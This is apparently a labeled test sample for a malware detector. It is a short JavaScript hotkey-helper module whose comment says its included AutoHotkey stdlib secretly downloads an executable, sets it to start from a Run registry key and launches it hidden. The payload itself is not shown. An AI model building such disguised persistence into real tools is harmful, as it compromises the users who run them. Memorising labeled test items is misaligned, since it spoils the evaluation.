// expect: malicious
// source: blind set 43's hotkey helper: the AutoHotkey stdlib it #Includes into every generated script downloads an
// executable, keeps it in a Run key and starts it hidden; written here
const fs = require('fs');
const path = require('path');
exports.register = (keys, out) => {
  const lib = fs.readFileSync(path.join(__dirname, 'templates', 'stdlib.ahk'), 'utf8');
  fs.writeFileSync(out, lib + '\n' + keys.map((k) => `${k.hotkey}::Run("${k.command}")`).join('\n'));
};
